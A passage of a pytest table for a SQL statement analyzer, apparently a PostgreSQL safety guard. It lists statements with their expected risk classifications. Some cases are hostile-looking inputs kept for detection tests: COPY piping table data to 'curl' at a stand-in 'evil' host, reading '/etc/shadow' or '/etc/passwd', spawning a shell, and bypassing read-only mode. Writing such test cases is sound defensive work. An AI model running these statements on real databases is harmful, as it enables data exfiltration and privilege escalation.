"""A table of statements and the facts `wardgate.sql.analyze` must find in them.

One row per case. ``kinds`` is the exact set of kinds (space separated). ``objs`` lists objects that
must be present, as ``[kind ]name:access`` (kind defaults to relation, ``s.t`` is
schema-qualified); ``no_objs`` names relations that must not be reported (CTE names). ``fns`` are
functions that must be listed. Flags not given must be False; ``settings``, ``command`` and
``unknown`` are checked when given.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import cast

import pytest

from wardgate.sql import KINDS, Access, Analysis, ObjectKind, ObjectRef, StatementFacts, analyze
from wardgate.sql._analyze import analyze_uncached


@dataclass(frozen=True)
class C:
    id: str
    sql: str
    kinds: str
    hidden: bool = False
    unbounded: bool = False
    rob: bool = False
    command: str | None = None
    objs: str = ""
    no_objs: str = ""
    fns: str = ""
    settings: tuple[tuple[str, str | None], ...] | None = None
    unknown: bool | None = None
    prepared: str | None = None
    cursor: str | None = None
    search_path: tuple[str, ...] = field(default=("public",))


# fmt: off
CASES = [
    # -- plain reads ----------------------------------------------------------------------------
    C("select-const", "SELECT 1", "read", command="SELECT", unknown=False),
    C("select-table", "SELECT a, b FROM t WHERE c = 1", "read", objs="t:read"),
    C("select-schema", "SELECT * FROM shop.orders o", "read", objs="shop.orders:read"),
    C("select-pgbench", "SELECT abalance FROM pgbench_accounts WHERE aid = 123;", "read",
      objs="pgbench_accounts:read"),
    C("select-join", "SELECT u.id FROM users u JOIN orders o ON o.uid = u.id", "read",
      objs="users:read, orders:read"),
    C("select-subquery", "SELECT * FROM (SELECT id FROM s.t) x WHERE id IN (SELECT id FROM u)",
      "read", objs="s.t:read, u:read"),
    C("select-exists", "SELECT 1 WHERE EXISTS (SELECT 1 FROM secret)", "read", objs="secret:read"),
    C("select-cte", "WITH x AS (SELECT * FROM t) SELECT * FROM x", "read", objs="t:read",
      no_objs="x"),
    C("select-cte-chain", "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", "read",
      no_objs="a b"),
    C("select-cte-forward-ref-is-table",
      "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "read", objs="b:read"),
    C("select-recursive",
      "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r",
      "read", no_objs="r"),
    C("select-union", "SELECT a FROM t UNION SELECT b FROM u EXCEPT SELECT c FROM v", "read",
      objs="t:read, u:read, v:read"),
    C("values", "VALUES (1, 'a'), (2, 'b')", "read", command="SELECT"),
    C("table-cmd", "TABLE orders", "read", objs="orders:read"),
    C("select-pure-fns", "SELECT lower(name), count(*), now() FROM t GROUP BY 1", "read",
      fns="lower count now", unknown=False),
    C("select-lateral", "SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t = t.id) x", "read",
      objs="t:read, u:read"),
    C("select-window", "SELECT rank() OVER (PARTITION BY d ORDER BY s) FROM emp", "read",
      unknown=False),
    C("select-srf", "SELECT * FROM generate_series(1, 10) g", "read", fns="generate_series"),
    C("select-catalog", "SELECT * FROM pg_catalog.pg_class", "read",
      objs="pg_catalog.pg_class:read"),
    C("select-for-update", "SELECT * FROM t WHERE id = 1 FOR UPDATE", "read write",
      command="SELECT FOR UPDATE"),
    C("select-for-share-in-subquery", "SELECT * FROM (SELECT * FROM t FOR SHARE) s", "read write"),
    C("select-sublink-in-select", "SELECT (SELECT max(x) FROM u) FROM t", "read",
      objs="u:read, t:read"),
    # -- writes ---------------------------------------------------------------------------------
    C("insert-values", "INSERT INTO t (a) VALUES (1)", "write", command="INSERT", objs="t:write"),
    C("insert-select", "INSERT INTO t SELECT * FROM u", "write read", objs="t:write, u:read"),
    C("insert-returning", "INSERT INTO t VALUES (1) RETURNING id", "write read",
      objs="t:write, t:read"),
    C("insert-on-conflict", "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2",
      "write"),
    C("insert-nextval", "INSERT INTO t VALUES (nextval('s'))", "write", fns="nextval"),
    C("update-where", "UPDATE t SET a = 1 WHERE id = 2", "write", command="UPDATE", objs="t:write"),
    C("update-no-where", "UPDATE t SET a = 1", "write", unbounded=True),
    C("update-from", "UPDATE t SET a = u.a FROM u WHERE t.id = u.id", "write read",
      objs="t:write, u:read"),
    C("update-current-of", "UPDATE t SET a = 1 WHERE CURRENT OF c", "write"),
    C("delete-where", "DELETE FROM t WHERE id = 1", "write", command="DELETE"),
    C("delete-no-where", "DELETE FROM t", "write", unbounded=True),
    C("delete-where-true", "DELETE FROM t WHERE true", "write", unbounded=True),
    C("delete-where-1-eq-1", "DELETE FROM t WHERE 1 = 1", "write", unbounded=True),
    C("delete-where-param", "DELETE FROM t WHERE $1", "write", unbounded=True),
    C("delete-where-subquery", "DELETE FROM t WHERE id IN (SELECT id FROM u)", "write read"),
    C("delete-using", "DELETE FROM t USING u WHERE t.id = u.id", "write read"),
    C("delete-schema", "DELETE FROM shop.orders WHERE id = 5", "write", objs="shop.orders:write"),
    C("merge-bounded",
      "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED "
      "THEN INSERT VALUES (s.id)", "write read", command="MERGE", objs="t:write, s:read"),
    C("merge-not-matched-by-source",
      "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", "write read",
      unbounded=True),
    C("merge-on-true", "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "write read",
      unbounded=True),
    C("merge-by-source-with-condition",
      "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND t.old THEN DELETE",
      "write read"),
    C("truncate", "TRUNCATE t, s.u", "write ddl", unbounded=True, command="TRUNCATE TABLE",
      objs="t:write, s.u:write"),
    C("dml-target-named-like-cte", "WITH t AS (SELECT 1) DELETE FROM t WHERE id = 1", "write",
      objs="t:write"),
    # -- data-modifying CTEs --------------------------------------------------------------------
    C("cte-delete", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "read write",
      hidden=True, unbounded=True, objs="t:write", no_objs="d"),
    C("cte-delete-where", "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING id) SELECT 1",
      "read write", hidden=True),
    C("cte-update",
      "WITH u AS (UPDATE acct SET bal = 0 WHERE id = 1 RETURNING id) SELECT count(*) FROM u",
      "read write", hidden=True, objs="acct:write"),
    C("cte-insert", "WITH i AS (INSERT INTO log VALUES (1) RETURNING *) SELECT * FROM i",
      "read write", hidden=True, objs="log:write"),
    C("cte-nested",
      "WITH a AS (WITH b AS (DELETE FROM t RETURNING *) SELECT * FROM b) SELECT * FROM a",
      "read write", hidden=True, unbounded=True, objs="t:write"),
    C("cte-in-subquery", "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d) x",
      "read write", hidden=True, unbounded=True),
    C("cte-in-insert",
      "WITH d AS (DELETE FROM old RETURNING *) INSERT INTO archive SELECT * FROM d", "write read",
      hidden=True, unbounded=True, objs="old:write, archive:write"),
    C("cte-merge",
      "WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.id) "
      "SELECT * FROM m", "read write", hidden=True),
    C("cte-recursive-with-write", "WITH RECURSIVE d AS (DELETE FROM t RETURNING *) SELECT 1",
      "read write", hidden=True, unbounded=True),
    # -- EXPLAIN --------------------------------------------------------------------------------
    C("explain-select", "EXPLAIN SELECT * FROM t", "read", command="EXPLAIN"),
    C("explain-delete", "EXPLAIN DELETE FROM t", "read", objs="t:read"),
    C("explain-analyze-select", "EXPLAIN ANALYZE SELECT * FROM t", "read"),
    C("explain-analyze-delete", "EXPLAIN ANALYZE DELETE FROM t", "write", hidden=True,
      unbounded=True, objs="t:write"),
    C("explain-analyze-update-opts",
      "EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) UPDATE t SET a = 1 WHERE id = 3", "write",
      hidden=True),
    C("explain-analyze-false", "EXPLAIN (ANALYZE false) DELETE FROM t", "read"),
    C("explain-analyze-off", "EXPLAIN (ANALYZE off, VERBOSE) INSERT INTO t VALUES (1)", "read"),
    C("explain-analyze-on", "EXPLAIN (ANALYZE on) INSERT INTO t VALUES (1)", "write", hidden=True),
    C("explain-analyze-0", "EXPLAIN (ANALYZE 0) DELETE FROM t", "read"),
    C("explain-analyze-cte-write",
      "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d", "read write",
      hidden=True, unbounded=True),
    C("explain-cte-write-no-analyze",
      "EXPLAIN WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d", "read"),
    C("explain-ctas", "EXPLAIN CREATE TABLE x AS SELECT * FROM t", "read"),
    C("explain-analyze-ctas", "EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM t",
      "read ddl write export", hidden=True),
    C("explain-admin-fn", "EXPLAIN SELECT pg_terminate_backend(1)", "read",
      fns="pg_terminate_backend"),
    C("explain-analyse-spelling", "EXPLAIN ANALYSE DELETE FROM t WHERE a = 1", "write",
      hidden=True),
    C("explain-analyse-option", "EXPLAIN (ANALYSE) DELETE FROM t WHERE a = 1", "write",
      hidden=True),
    C("explain-analyze-execute", "EXPLAIN ANALYZE EXECUTE q(1)", "utility", prepared="q"),
    # -- SELECT INTO / CREATE TABLE AS ----------------------------------------------------------
    C("select-into", "SELECT * INTO newt FROM t", "read export write ddl", hidden=True,
      command="SELECT INTO", objs="newt:ddl, t:read"),
    C("select-into-temp", "SELECT a INTO TEMP x FROM t", "read export write ddl", hidden=True),
    C("ctas", "CREATE TABLE x AS SELECT * FROM t", "read export write ddl", hidden=True,
      command="CREATE TABLE AS", objs="x:ddl, t:read"),
    C("ctas-no-data", "CREATE TABLE x AS SELECT * FROM t WITH NO DATA", "read export write ddl",
      hidden=True),
    C("matview", "CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", "read export write ddl",
      hidden=True, command="CREATE MATERIALIZED VIEW"),
    C("refresh-matview", "REFRESH MATERIALIZED VIEW mv", "write", objs="mv:write"),
    # -- PREPARE / EXECUTE ----------------------------------------------------------------------
    C("prepare-select", "PREPARE q(int) AS SELECT * FROM t WHERE id = $1", "read",
      command="PREPARE", prepared="q"),
    C("prepare-delete", "PREPARE d AS DELETE FROM t", "write", hidden=True, unbounded=True,
      prepared="d", objs="t:write"),
    C("prepare-update", "PREPARE u(int) AS UPDATE t SET a = 1 WHERE id = $1", "write", hidden=True,
      prepared="u"),
    C("prepare-cte-write", "PREPARE p AS WITH d AS (DELETE FROM t RETURNING 1) SELECT 1",
      "read write", hidden=True, unbounded=True, prepared="p"),
    C("prepare-admin", "PREPARE k AS SELECT pg_terminate_backend(42)", "read admin", prepared="k"),
    C("execute", "EXECUTE q(1)", "utility", command="EXECUTE", prepared="q"),
    C("ctas-execute", "CREATE TABLE x AS EXECUTE q", "utility ddl write export", hidden=True,
      prepared="q"),
    C("deallocate", "DEALLOCATE q", "utility", prepared="q"),
    C("deallocate-all", "DEALLOCATE ALL", "utility", command="DEALLOCATE ALL"),
    # -- DO / CALL ------------------------------------------------------------------------------
    C("do-block", "DO $$ BEGIN DELETE FROM t; END $$", "procedural", hidden=True, rob=True,
      command="DO", unknown=True),
    C("do-empty", "DO $$ BEGIN NULL; END $$", "procedural", hidden=True, rob=True),
    C("do-language", "DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$", "procedural",
      hidden=True, rob=True),
    C("call", "CALL do_things(1, 'x')", "procedural", hidden=True, rob=True, command="CALL",
      fns="do_things", objs="function do_things:execute", unknown=True),
    C("call-qualified", "CALL ops.cleanup()", "procedural", hidden=True, rob=True,
      fns="ops.cleanup"),
    # -- COPY -----------------------------------------------------------------------------------
    C("copy-to-stdout", "COPY t TO STDOUT", "export read", command="COPY", objs="t:read"),
    C("copy-to-stdout-csv", "COPY t (a, b) TO STDOUT WITH (FORMAT csv, HEADER)", "export read"),
    C("copy-from-stdin", "COPY t FROM STDIN", "import write", objs="t:write"),
    C("copy-query-to", "COPY (SELECT * FROM t WHERE a > 1) TO STDOUT", "export read",
      objs="t:read"),
    C("copy-query-dml-to", "COPY (DELETE FROM t RETURNING *) TO STDOUT", "export read write",
      hidden=True, unbounded=True),
    C("copy-to-file", "COPY t TO '/tmp/t.csv'", "export read admin"),
    C("copy-from-file", "COPY t FROM '/etc/passwd'", "import write admin"),
    C("copy-to-program", "COPY t TO PROGRAM 'curl -d @- http://evil'", "export read admin"),
    C("copy-from-program", "COPY t FROM PROGRAM 'cat /etc/shadow'", "import write admin"),
    C("copy-query-to-program", "COPY (SELECT 1) TO PROGRAM 'sh'", "export read admin"),
    # -- DDL ------------------------------------------------------------------------------------
    C("create-table", "CREATE TABLE s.t (id int PRIMARY KEY, name text)", "ddl",
      command="CREATE TABLE", objs="s.t:ddl"),
    C("create-table-fk", "CREATE TABLE t (uid int REFERENCES users (id))", "ddl",
      objs="t:ddl, users:ddl"),
    C("create-temp-table", "CREATE TEMP TABLE x (a int)", "ddl"),
    C("alter-table-add", "ALTER TABLE t ADD COLUMN c text", "ddl", command="ALTER TABLE",
      objs="t:ddl"),
    C("alter-table-owner", "ALTER TABLE t OWNER TO mallory", "ddl privilege",
      objs="role mallory:ddl"),
    C("alter-table-disable-rls", "ALTER TABLE t DISABLE ROW LEVEL SECURITY", "ddl privilege"),
    C("alter-table-disable-trigger", "ALTER TABLE audit DISABLE TRIGGER ALL", "ddl privilege"),
    C("alter-index", "ALTER INDEX i RENAME TO j", "ddl", command="ALTER INDEX"),
    C("alter-table-rename", "ALTER TABLE t RENAME TO u", "ddl", command="ALTER TABLE",
      objs="t:ddl"),
    C("alter-column-rename", "ALTER TABLE t RENAME COLUMN a TO b", "ddl", command="ALTER TABLE"),
    C("drop-table", "DROP TABLE a, s.b CASCADE", "ddl", command="DROP TABLE",
      objs="a:ddl, s.b:ddl"),
    C("drop-view", "DROP VIEW IF EXISTS v", "ddl", command="DROP VIEW", objs="v:ddl"),
    C("drop-function", "DROP FUNCTION s.f(int)", "ddl", command="DROP FUNCTION",
      objs="function s.f:ddl"),
    C("drop-schema", "DROP SCHEMA app CASCADE", "ddl", objs="schema app:ddl"),
    C("drop-database", "DROP DATABASE prod", "ddl", command="DROP DATABASE",
      objs="database prod:ddl"),
    C("create-index", "CREATE INDEX CONCURRENTLY i ON t (lower(email))", "ddl",
      command="CREATE INDEX", objs="t:ddl"),
    C("create-view", "CREATE VIEW v AS SELECT * FROM t", "ddl", command="CREATE VIEW",
      objs="v:ddl, t:read"),
    C("create-view-with-admin-fn", "CREATE VIEW v AS SELECT pg_read_file('x')", "ddl"),
    C("create-schema", "CREATE SCHEMA app AUTHORIZATION bob", "ddl", objs="schema app:ddl"),
    C("create-sequence", "CREATE SEQUENCE s START 1", "ddl", command="CREATE SEQUENCE"),
    C("create-function", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", "ddl",
      command="CREATE FUNCTION", objs="function f:ddl"),
    C("create-function-secdef",
      "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'",
      "ddl privilege"),
    C("create-procedure-atomic", "CREATE PROCEDURE p() BEGIN ATOMIC DELETE FROM t; END", "ddl",
      command="CREATE PROCEDURE"),
    C("create-trigger", "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
      "ddl", command="CREATE TRIGGER", objs="t:ddl, function f:ddl"),
    C("create-rule", "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", "ddl",
      command="CREATE RULE"),
    C("create-extension", "CREATE EXTENSION dblink", "ddl admin", command="CREATE EXTENSION"),
    C("create-type", "CREATE TYPE mood AS ENUM ('sad', 'ok')", "ddl", command="CREATE TYPE"),
    C("create-domain", "CREATE DOMAIN pos AS int CHECK (VALUE > 0)", "ddl"),
    C("create-database", "CREATE DATABASE x", "ddl", objs="database x:ddl"),
    C("comment-on", "COMMENT ON TABLE s.t IS 'DROP TABLE x'", "ddl", command="COMMENT",
      objs="s.t:ddl"),
    C("create-policy", "CREATE POLICY p ON t USING (owner = current_user)", "ddl privilege",
      objs="t:ddl"),
    C("create-aggregate", "CREATE AGGREGATE a (int) (SFUNC = int4pl, STYPE = int)", "ddl",
      command="CREATE AGGREGATE"),
    C("create-server", "CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw", "ddl admin"),
    C("alter-schema-rename", "ALTER SCHEMA a RENAME TO b", "ddl", objs="schema a:ddl"),
    # -- privilege ------------------------------------------------------------------------------
    C("grant-select", "GRANT SELECT ON t, s.u TO bob, PUBLIC", "privilege", command="GRANT",
      objs="t:grant, s.u:grant, role bob:grant, role public:grant"),
    C("grant-all-in-schema", "GRANT ALL ON ALL TABLES IN SCHEMA s TO bob", "privilege",
      objs="schema s:grant"),
    C("grant-schema", "GRANT USAGE ON SCHEMA s TO bob", "privilege", objs="schema s:grant"),
    C("grant-function", "GRANT EXECUTE ON FUNCTION f(int) TO bob", "privilege",
      objs="function f:grant"),
    C("grant-database", "GRANT CONNECT ON DATABASE d TO bob", "privilege", objs="database d:grant"),
    C("grant-role", "GRANT admin TO bob", "privilege", objs="role admin:grant, role bob:grant"),
    C("revoke", "REVOKE SELECT ON t FROM bob", "privilege", command="REVOKE"),
    C("create-role", "CREATE ROLE r LOGIN PASSWORD 'x'", "privilege", command="CREATE ROLE",
      objs="role r:ddl"),
    C("create-user", "CREATE USER u SUPERUSER", "privilege", command="CREATE USER"),
    C("alter-role", "ALTER ROLE bob WITH SUPERUSER", "privilege", command="ALTER ROLE"),
    C("alter-role-rename", "ALTER ROLE bob RENAME TO alice", "privilege"),
    C("drop-role", "DROP ROLE bob", "privilege", objs="role bob:ddl"),
    C("alter-default-privileges",
      "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob", "privilege",
      command="ALTER DEFAULT PRIVILEGES"),
    C("reassign-owned", "REASSIGN OWNED BY a TO b", "ddl privilege"),
    C("alter-role-set-ro-off", "ALTER ROLE ro SET default_transaction_read_only = off", "privilege",
      rob=True, settings=(("default_transaction_read_only", "off"),)),
    C("alter-role-set-harmless", "ALTER ROLE ro SET statement_timeout = '5s'", "privilege",
      settings=(("statement_timeout", "5s"),)),
    C("alter-database-set-ro", "ALTER DATABASE shop SET default_transaction_read_only TO false",
      "ddl", rob=True),
    # -- session ----------------------------------------------------------------------------------
    C("set-search-path", "SET search_path = app, public", "session", command="SET",
      settings=(("search_path", "app, public"),)),
    C("set-timeout", "SET statement_timeout = 5000", "session",
      settings=(("statement_timeout", "5000"),)),
    C("set-local", "SET LOCAL work_mem = '64MB'", "session", settings=(("work_mem", "64MB"),)),
    C("set-ro-off", "SET default_transaction_read_only = off", "session", rob=True,
      settings=(("default_transaction_read_only", "off"),)),
    C("set-ro-false", "SET default_transaction_read_only TO false", "session", rob=True),
    C("set-ro-on", "SET default_transaction_read_only = on", "session",
      settings=(("default_transaction_read_only", "on"),)),
    C("set-ro-t", "SET default_transaction_read_only = 't'", "session"),
    C("set-tx-ro-off", "SET transaction_read_only = off", "session", rob=True),
    C("set-tx-ro-0", "SET transaction_read_only = 0", "session", rob=True),
    C("set-ro-default", "SET default_transaction_read_only TO DEFAULT", "session", rob=True,
      settings=(("default_transaction_read_only", None),)),
    C("reset-ro", "RESET default_transaction_read_only", "session", rob=True, command="RESET"),
    C("reset-all", "RESET ALL", "session", rob=True, settings=(("all", None),)),
    C("reset-timeout", "RESET statement_timeout", "session",
      settings=(("statement_timeout", None),)),
    C("set-role", "SET ROLE admin", "session", rob=True, settings=(("role", "admin"),)),
    C("set-role-none", "SET ROLE NONE", "session", rob=True),
    C("reset-role", "RESET ROLE", "session", rob=True),
    C("set-session-auth", "SET SESSION AUTHORIZATION postgres", "session", rob=True,
      settings=(("session_authorization", "postgres"),)),
    C("set-session-auth-default", "SET SESSION AUTHORIZATION DEFAULT", "session", rob=True),
    C("session-characteristics-rw", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
      "session", rob=True, settings=(("default_transaction_read_only", "off"),)),
    C("session-characteristics-ro", "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
      "session", settings=(("default_transaction_read_only", "on"),)),
    C("session-characteristics-iso",
      "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE", "session"),
    C("set-time-zone", "SET TIME ZONE 'UTC'", "session", settings=(("timezone", "UTC"),)),
    C("set-names", "SET NAMES 'UTF8'", "session", settings=(("client_encoding", "UTF8"),)),
    C("set-mixed-case", "SeT StAtEmEnT_TiMeOuT = 10", "session",
      settings=(("statement_timeout", "10"),)),
    C("set-quoted-name", 'SET "Default_Transaction_Read_Only" = off', "session", rob=True),
    C("discard-all", "DISCARD ALL", "session", rob=True, command="DISCARD ALL"),
    C("discard-plans", "DISCARD PLANS", "session", command="DISCARD PLANS"),
    C("set-config-ro", "SELECT set_config('default_transaction_read_only', 'off', false)",
      "read admin", rob=True, settings=(("default_transaction_read_only", "off"),),
      fns="set_config"),
    C("set-config-tx-ro", "SELECT pg_catalog.set_config('transaction_read_only', 'off', true)",
      "read admin", rob=True, fns="pg_catalog.set_config"),
    C("set-config-harmless", "SELECT set_config('application_name', 'x', false)", "read session",
      settings=(("application_name", "x"),)),
    C("set-config-ro-on", "SELECT set_config('default_transaction_read_only', 'on', false)",
      "read admin"),
    C("set-config-role", "SELECT set_config('role', 'admin', false)", "read admin", rob=True),
    C("set-config-dynamic-name", "SELECT set_config(lower('TRANSACTION_READ_ONLY'), 'off', false)",
      "read admin", rob=True, settings=(("*", "off"),)),
    C("set-config-param", "SELECT set_config($1, $2, false)", "read admin", rob=True,
      settings=(("*", None),)),
    C("update-pg-settings",
      "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'",
      "write admin", rob=True),
    # -- transactions ---------------------------------------------------------------------------
    C("begin", "BEGIN", "transaction", command="BEGIN"),
    C("begin-ro", "BEGIN READ ONLY", "transaction", settings=(("transaction_read_only", "on"),)),
    C("begin-rw", "BEGIN READ WRITE", "transaction", rob=True,
      settings=(("transaction_read_only", "off"),)),
    C("start-rw", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", "transaction",
      rob=True, command="START TRANSACTION"),
    C("start-iso", "START TRANSACTION ISOLATION LEVEL REPEATABLE READ", "transaction"),
    C("set-transaction-rw", "SET TRANSACTION READ WRITE", "transaction", rob=True),
    C("set-transaction-ro", "SET TRANSACTION READ ONLY", "transaction"),
    C("commit", "COMMIT", "transaction", command="COMMIT"),
    C("commit-and-chain", "COMMIT AND CHAIN", "transaction"),
    C("rollback", "ROLLBACK", "transaction", command="ROLLBACK"),
    C("savepoint", "SAVEPOINT sp1", "transaction", command="SAVEPOINT"),
    C("release", "RELEASE SAVEPOINT sp1", "transaction", command="RELEASE"),
    C("rollback-to", "ROLLBACK TO SAVEPOINT sp1", "transaction", command="ROLLBACK"),
    C("prepare-transaction", "PREPARE TRANSACTION 'gx'", "transaction",
      command="PREPARE TRANSACTION"),
    C("set-constraints", "SET CONSTRAINTS ALL DEFERRED", "transaction"),
    # -- admin ----------------------------------------------------------------------------------
    C("vacuum", "VACUUM FULL t", "admin", command="VACUUM", objs="t:ddl"),
    C("analyze", "ANALYZE t", "admin", command="ANALYZE"),
    C("cluster", "CLUSTER t USING i", "admin"),
    C("reindex", "REINDEX TABLE t", "admin"),
    C("checkpoint", "CHECKPOINT", "admin", command="CHECKPOINT"),
    C("alter-system", "ALTER SYSTEM SET default_transaction_read_only = off", "admin", rob=True,
      command="ALTER SYSTEM"),
    C("alter-system-harmless", "ALTER SYSTEM SET work_mem = '1GB'", "admin"),
    C("load", "LOAD 'auto_explain'", "admin", command="LOAD"),
    C("fn-terminate", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "read admin",
      fns="pg_terminate_backend", unknown=False),
    C("fn-cancel", "SELECT pg_cancel_backend(42)", "read admin"),
    C("fn-reload", "SELECT pg_reload_conf()", "read admin"),
    C("fn-read-file", "SELECT pg_read_file('/etc/passwd')", "read admin"),
    C("fn-read-binary", "SELECT pg_read_binary_file('global/pg_control')", "read admin"),
    C("fn-ls-dir", "SELECT * FROM pg_ls_dir('.')", "read admin"),
    C("fn-stat-file", "SELECT pg_stat_file('postgresql.conf')", "read admin"),
    C("fn-lo-import", "SELECT lo_import('/etc/passwd')", "read admin write", hidden=True),
    C("fn-lo-export", "SELECT lo_export(1234, '/tmp/x')", "read admin"),
    C("fn-promote", "SELECT pg_promote()", "read admin"),
    C("fn-rotate", "SELECT pg_rotate_logfile()", "read admin"),
    C("fn-dblink", "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", "read admin",
      fns="dblink"),
    C("fn-dblink-exec", "SELECT ext.dblink_exec('DELETE FROM t')", "read admin", unknown=True),
    C("fn-file-write", "SELECT pg_file_write('x', 'y', false)", "read admin"),
    C("fn-query-to-xml", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
      "read admin"),
    C("fn-table-to-xml", "SELECT table_to_xml('secrets', true, true, '')", "read admin"),
    C("fn-in-where", "SELECT 1 FROM t WHERE pg_terminate_backend(t.pid)", "read admin"),
    C("fn-in-cte", "WITH x AS (SELECT pg_reload_conf()) SELECT * FROM x", "read admin"),
    C("fn-nextval", "SELECT nextval('seq')", "read write", hidden=True, fns="nextval"),
    C("fn-setval", "SELECT setval('seq', 1)", "read write", hidden=True),
    C("fn-lo-unlink", "SELECT lo_unlink(42)", "read write", hidden=True),
    # -- utility --------------------------------------------------------------------------------
    C("listen", "LISTEN chan", "utility", command="LISTEN"),
    C("unlisten", "UNLISTEN *", "utility"),
    C("notify", "NOTIFY chan, 'DROP TABLE x'", "utility", command="NOTIFY"),
    C("show", "SHOW search_path", "utility", command="SHOW"),
    C("show-all", "SHOW ALL", "utility"),
    C("declare", "DECLARE c CURSOR FOR SELECT * FROM t", "read", command="DECLARE CURSOR",
      cursor="c", objs="t:read"),
    C("declare-nextval", "DECLARE c CURSOR FOR SELECT nextval('s')", "read write", hidden=True,
      cursor="c"),
    C("fetch", "FETCH 10 FROM c", "utility", command="FETCH", cursor="c"),
    C("move", "MOVE c", "utility", command="MOVE", cursor="c"),
    C("close", "CLOSE c", "utility", command="CLOSE CURSOR", cursor="c"),
    C("close-all", "CLOSE ALL", "utility"),
    C("lock-share", "LOCK TABLE t IN ACCESS SHARE MODE", "read", objs="t:read"),
    C("lock-exclusive", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "write", objs="t:write"),
    # -- comments, quoting, look-alikes ---------------------------------------------------------
    C("string-with-drop", "SELECT 'DROP TABLE x'", "read"),
    C("string-with-delete-and-semicolon", "SELECT 'x; DELETE FROM t'", "read"),
    C("quoted-delete-column", 'SELECT "delete" FROM t', "read", objs="t:read"),
    C("quoted-DELETE-table", 'SELECT * FROM "DELETE"', "read", objs="DELETE:read"),
    C("quoted-drop-alias", 'SELECT 1 AS "DROP TABLE users"', "read"),
    C("line-comment-delete", "-- DELETE FROM t\nSELECT 1", "read"),
    C("block-comment-delete", "/* DELETE FROM t; */ SELECT 1", "read"),
    C("nested-block-comment",
      "/* outer /* DROP TABLE x; */ still comment; DELETE FROM t */ SELECT 2", "read"),
    C("comment-inside", "SELECT a /* ; DELETE FROM t */ FROM t", "read"),
    C("trailing-comment", "SELECT 1 -- ; DROP TABLE x", "read"),
    C("dollar-quoted", "SELECT $$DELETE FROM t$$", "read"),
    C("dollar-tag-quoted", "SELECT $tag$ ; DROP TABLE x; $tag$", "read"),
    C("dollar-nested-tags", "SELECT $a$ $b$ DELETE $b$ $a$", "read"),
    C("escape-string", "SELECT E'\\'; DELETE FROM t; --'", "read"),
    C("mixed-case-delete", "dElEtE fRoM T wHeRe Id = 1", "write", objs="t:write"),
    C("mixed-case-cte", "wItH d As (DeLeTe FrOm t ReTuRnInG 1) SeLeCt 1", "read write", hidden=True,
      unbounded=True),
    C("quoted-table-case", 'UPDATE "Orders" SET a = 1 WHERE id = 1', "write", objs="Orders:write"),
    C("unicode-ident", 'SELECT "naïve" FROM "tåble"', "read", objs="tåble:read"),
    C("delete-as-column-alias", "SELECT 1 AS delete_me, 'truncate' AS drop", "read"),
    C("function-named-like-keyword", 'SELECT "delete"(1)', "read", fns="delete", unknown=True),
    C("comment-then-select", "/* multi\nline */\n-- more\nSELECT id FROM t", "read"),
    # -- unknown functions and search_path ------------------------------------------------------
    C("user-function", "SELECT my_func(id) FROM t", "read", fns="my_func", unknown=True),
    C("qualified-user-function", "SELECT app.lower(x) FROM t", "read", fns="app.lower",
      unknown=True),
    C("pg-catalog-builtin", "SELECT pg_catalog.lower(x) FROM t", "read", unknown=False),
    C("sleep", "SELECT pg_sleep(100)", "read", unknown=True),
    C("shadowed-builtin", "SELECT lower(x) FROM t", "read", unknown=True,
      search_path=("app", "pg_catalog")),
    C("catalog-first-path", "SELECT lower(x) FROM t", "read", unknown=False,
      search_path=("pg_catalog", "app")),
    C("builtin-operators", "SELECT a + b, c || d, e ->> 'k', f = ANY(g), h LIKE 'x%' FROM t",
      "read", unknown=False),
    C("extension-operator", "SELECT * FROM items ORDER BY embedding <=> '[1,2]' LIMIT 5", "read",
      unknown=True),
    C("qualified-operator", "SELECT a OPERATOR(app.+) b FROM t", "read", unknown=True),
    C("catalog-operator", "SELECT a OPERATOR(pg_catalog.+) b FROM t", "read", unknown=False),
    C("extract-sql-syntax", "SELECT extract(year FROM now()), trim(' x ')", "read",
      fns="extract btrim", unknown=False),
]
# fmt: on


def _refs(spec: str) -> set[ObjectRef]:
    refs: set[ObjectRef] = set()
    for item in filter(None, (part.strip() for part in spec.split(","))):
        kind, _, rest = item.rpartition(" ")
